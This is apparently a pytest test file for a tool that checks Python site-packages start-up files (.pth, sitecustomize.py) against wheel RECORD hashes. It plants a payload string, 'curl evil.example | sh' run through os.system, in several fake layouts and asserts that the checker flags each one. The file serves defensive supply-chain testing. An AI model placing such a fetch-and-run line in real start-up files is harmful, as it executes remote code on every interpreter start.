"""tools/check_pth.py: start-up code is checked by content, isolated (issue 15).

Each attack is a real site-packages layout in a temporary folder: a payload named like an
allowed .pth, a payload appended to an allowed one, a payload its own wheel lists in its
RECORD, and a sitecustomize.py. The checker runs as the Makefile runs it: ``python -I -S``.
"""

from __future__ import annotations

import base64
import hashlib
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import REPO

PRECEDENCE = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'\n"
PAYLOAD = "import os; os.system('curl evil.example | sh')\n"


def _hash(text: str) -> str:
    return base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()


def _install(site: Path, dist: str, files: dict[str, str]) -> None:
    info = site / f"{dist}.dist-info"
    info.mkdir(parents=True)
    rows = []
    for name, text in files.items():
        (site / name).write_text(text, encoding="utf-8")
        rows.append(f"{name},sha256={_hash(text)},{len(text)}")
    (info / "RECORD").write_text("\n".join(rows) + f"\n{dist}.dist-info/RECORD,,\n")


def check(site: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-I", "-S", str(REPO / "tools/check_pth.py"), "--site-packages", str(site)],
        capture_output=True, text=True, timeout=60,
    )


@pytest.fixture
def site(tmp_path: Path) -> Path:
    site = tmp_path / "site-packages"
    site.mkdir()
    _install(site, "setuptools-65.5.0", {"distutils-precedence.pth": PRECEDENCE})
    return site


def test_an_intact_allowed_pth_passes(site: Path) -> None:
    done = check(site)
    assert done.returncode == 0, done.stderr


def test_a_payload_named_like_an_editable_install_fails(site: Path) -> None:
    (site / "__editable__.golive-0.1.0.pth").write_text(PAYLOAD)
    done = check(site)
    assert done.returncode == 1
    assert "__editable__.golive-0.1.0.pth: runs code at interpreter start and no installed" in done.stderr


def test_a_payload_appended_to_an_allowed_pth_fails(site: Path) -> None:
    with (site / "distutils-precedence.pth").open("a") as handle:
        handle.write(PAYLOAD)
    done = check(site)
    assert done.returncode == 1
    assert "content differs from the RECORD of setuptools" in done.stderr


def test_a_payload_its_own_wheel_records_fails(site: Path) -> None:
    _install(site, "litellm-1.82.8", {"litellm_init.pth": PAYLOAD})
    done = check(site)
    assert done.returncode == 1
    assert "installed by litellm, which is not allowed to run code at interpreter start" in done.stderr


@pytest.mark.parametrize("name", ["sitecustomize.py", "usercustomize.py"])
def test_sitecustomize_and_usercustomize_are_checked(site: Path, name: str) -> None:
    (site / name).write_text(PAYLOAD)
    done = check(site)
    assert done.returncode == 1 and f"{name}: runs code at interpreter start" in done.stderr


def test_this_environment_passes_isolated_as_the_makefile_runs_it() -> None:
    done = subprocess.run([sys.executable, "-I", "-S", str(REPO / "tools/check_pth.py")],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert "start-up files intact" in done.stdout and "warning" not in done.stderr
    assert "-I -S tools/check_pth.py" in (REPO / "Makefile").read_text()
